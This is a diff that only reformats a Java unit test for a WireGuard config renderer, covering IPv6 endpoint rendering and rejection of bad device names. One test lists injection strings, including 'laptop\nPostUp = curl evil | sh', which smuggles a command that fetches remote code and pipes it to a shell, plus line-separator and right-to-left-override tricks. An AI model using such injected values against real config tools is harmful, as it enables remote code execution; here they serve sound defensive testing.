@@ -41,18 +41,30 @@ class WgConfigRendererTest {
 
     @Test
     void renders_ipv6_endpoints_in_brackets_and_ipv6_in_canonical_form() {
-        PeerSection peer = new PeerSection(WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY), null,
-                ConfigFixtures.prefixes("FD00:0:0:0::/64"), Endpoint.parse("[2001:DB8:0::1]:51820"), 0);
-        ClientConfig config = new ClientConfig(minimal(PrivateKeyEntry.placeholder(), null).iface(), List.of(peer));
+        PeerSection peer = new PeerSection(
+                WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY),
+                null,
+                ConfigFixtures.prefixes("FD00:0:0:0::/64"),
+                Endpoint.parse("[2001:DB8:0::1]:51820"),
+                0);
+        ClientConfig config =
+                new ClientConfig(minimal(PrivateKeyEntry.placeholder(), null).iface(), List.of(peer));
 
         assertThat(WgConfigRenderer.render(config))
-                .contains("\nAllowedIPs = fd00::/64\n", "\nEndpoint = [2001:db8::1]:51820\n", "\nPersistentKeepalive = 0\n");
+                .contains(
+                        "\nAllowedIPs = fd00::/64\n",
+                        "\nEndpoint = [2001:db8::1]:51820\n",
+                        "\nPersistentKeepalive = 0\n");
     }
 
     @Test
     void a_device_name_that_would_start_a_new_line_never_reaches_the_renderer() {
-        for (String hostile : List.of("laptop\nPostUp = curl evil | sh", "laptop\r[Interface]", "laptop\u2028PostUp = x",
-                "laptop\u0085PostUp = x", "\u202eexe.pot")) {
+        for (String hostile : List.of(
+                "laptop\nPostUp = curl evil | sh",
+                "laptop\r[Interface]",
+                "laptop\u2028PostUp = x",
+                "laptop\u0085PostUp = x",
+                "\u202eexe.pot")) {
             assertThatThrownBy(() -> minimal(PrivateKeyEntry.placeholder(), hostile))
                     .isInstanceOf(InvalidInputException.class)
                     .hasMessageStartingWith("Device name contains");
@@ -68,9 +80,14 @@ class WgConfigRendererTest {
     }
 
     static ClientConfig minimal(PrivateKeyEntry key, String deviceName) {
-        return new ClientConfig(deviceName,
+        return new ClientConfig(
+                deviceName,
                 new InterfaceSection(key, ConfigFixtures.prefixes("10.8.0.2/32"), List.of(), List.of(), null),
-                List.of(new PeerSection(WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY), null,
-                        ConfigFixtures.prefixes("0.0.0.0/0", "::/0"), null, null)));
+                List.of(new PeerSection(
+                        WgKey.parsePublic(ConfigFixtures.PEER_PUBLIC_KEY),
+                        null,
+                        ConfigFixtures.prefixes("0.0.0.0/0", "::/0"),
+                        null,
+                        null)));
     }
 }
